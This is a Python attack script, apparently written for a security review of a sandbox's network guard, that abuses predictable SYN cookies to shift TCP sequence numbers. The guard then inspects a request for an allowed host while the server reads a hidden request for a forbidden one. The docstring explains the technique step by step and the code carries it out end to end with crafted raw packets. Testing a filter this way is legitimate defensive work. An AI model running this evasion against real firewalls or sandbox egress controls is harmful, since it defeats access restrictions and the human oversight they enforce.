"""The ninth review's attack on the first-flight guard (a guest's root in host mode, or
CAP_NET_RAW in-guest): a server in SYN-cookie mode answers a SYN statelessly, and its cookies
are predictable from one seen: C(X + d) = C(X) + d on one tuple within a minute (same MSS).
So its connection can be made to start d bytes after where the guard's flight starts:

  1. a raw SYN, ISN X1: the SYN-ACK (cookie C1) starts the guard's flight at X1 + 1;
  2. a raw SYN, ISN X2 = X1 + d, for conntrack (its SYN-ACK, C2 = C1 + d, is the guard's
     conflict, dropped; C2 is known anyway);
  3. `data`: segment B at X2 + 1 acknowledging C2 + 1 (the cookie: the server opens its
     connection there), the request the server reads, for EVIL; `bare`: a bare ACK there
     opens it, and B follows acknowledging only C1 + 1 (old to the server, which takes it);
  4. segment A at X1 + 1: what the guard judges from its start, a request for GOOD (which this
     guest resolved) whose bytes from d on are B.
The server reads B alone and answers for EVIL, unless the guard stops it. Prints the answer's
last line, or `error ...`.

usage: cookie_shift_attack.py SRC DST PORT data|bare GOOD EVIL   (as root; the caller drops
this host's own RSTs to DST, which its kernel would send for the raw connections, unless
they carry the mark 0x77)"""
import os
import random
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from rawtcp import ACK, FIN, MSS, PSH, RST, SYN, Raw  # noqa: E402

src, dst, port, mode, good, evil = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4], sys.argv[5], sys.argv[6]
t = Raw(src, dst, port, random.randint(42000, 60000))
B = ("GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % evil).encode()
head = ("GET / HTTP/1.1\r\nHost: %s\r\nX-Pad: pppppppp\r\n\r\n" % good).encode()
A = head + B  # judged from the start: a request for GOOD, then "the client's own" bytes
d = len(head)
X1 = random.randint(1 << 20, 1 << 31)
C1 = t.synack(X1)
if C1 is None:
    print("error no SYN-ACK")
    sys.exit(0)
X2, C2 = X1 + d, C1 + d
t.send(X2, 0, SYN, opts=MSS)
# In order through one queue: no waits.
if mode == "data":
    t.send(X2 + 1, C2 + 1, ACK | PSH, B)
    t.send(X1 + 1, C2 + 1, ACK | PSH, A)
else:
    # The cookie's ACK alone; the data after it acknowledges only the SYN-ACK the guard saw
    # (an old acknowledgment to the server's connection, which it takes within a window).
    t.send(X2 + 1, C2 + 1, ACK)
    t.send(X2 + 1, C1 + 1, ACK | PSH, B)
    t.send(X1 + 1, C1 + 1, ACK | PSH, A)
rcv, got = (C2 + 1) & 0xffffffff, b""
for p in t.packets(5):
    if p["flags"] & RST:
        print("error reset", flush=True)
        sys.exit(0)
    if p["seq"] == rcv and p["data"]:
        got += p["data"]
        rcv = (rcv + len(p["data"])) & 0xffffffff
        t.send(X2 + 1 + len(B), rcv, ACK)
    if p["flags"] & FIN or b"\nhello" in got:
        break
text = got.decode(errors="replace").strip()
print(text.splitlines()[-1] if text else "error no answer")
